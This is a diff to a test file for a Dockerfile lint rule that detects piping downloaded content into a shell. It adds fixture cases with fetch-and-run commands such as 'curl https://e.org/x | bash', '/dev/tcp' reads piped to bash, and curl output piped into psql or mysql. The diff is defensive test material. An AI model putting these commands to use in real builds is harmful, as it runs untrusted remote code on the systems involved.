@@ -22,7 +22,7 @@ describeControl(dockerfileNoPipeToShell, compliantDockerfile, {
     'FROM a\nRUN sh <<E\nv=$(curl x)\necho $v\nE',
   ),
   unknown: written(
-    ...['ssh localhost', 'docker run -i alpine sh', './x', 'gdb -x /dev/stdin', 'psql'].map(
+    ...['ssh localhost', 'docker run -i alpine sh', './x', 'gdb -x /dev/stdin', 'load'].map(
       (reader) => `FROM a\nRUN curl https://e.org/x | grep x | ${reader}`,
     ),
     'FROM a\nRUN powershell -Command "irm https://e.org/x | Out-File x; iex y"',
@@ -87,6 +87,8 @@ describeControl(dockerfileNoPipeToShell, compliantDockerfile, {
     'FROM a\nRUN eval "${A:-$(curl x)}"',
     'FROM a\nRUN (( n = 1 << 3 )); curl https://e.org/x | bash',
     'FROM a\nRUN bash < <(curl x)',
+    'FROM a\nSHELL ["/bin/bash", "-c"]\nRUN bash < /dev/tcp/e.org/80',
+    'FROM a\nSHELL ["/bin/bash", "-c"]\nRUN exec 3<>/dev/tcp/e.org/80; cat <&3 | bash',
     'FROM a\nRUN curl x > >(bash)',
     'FROM a\nRUN C=curl; $C x | sh',
     'FROM a\nRUN for c in curl wget; do $c x | sh; done',
@@ -96,8 +98,16 @@ describeControl(dockerfileNoPipeToShell, compliantDockerfile, {
     String.raw`FROM a
 RUN find / -exec sh -c 'curl x | sh' \;`,
     'FROM a\nRUN <<E\nwget -O- https://e.org/x \\\n | bash\nE',
-    ...['su -', 'lua -', 'tclsh', 'make -f -', 'parallel', 'crontab -', 'batch'].map(
-      (reader) => `FROM a\nRUN curl https://e.org/x | ${reader}`,
-    ),
+    ...[
+      'su -',
+      'lua -',
+      'tclsh',
+      'make -f -',
+      'parallel',
+      'crontab -',
+      'batch',
+      'psql -U a',
+      'mysql',
+    ].map((reader) => `FROM a\nRUN curl https://e.org/x | ${reader}`),
   ),
 });
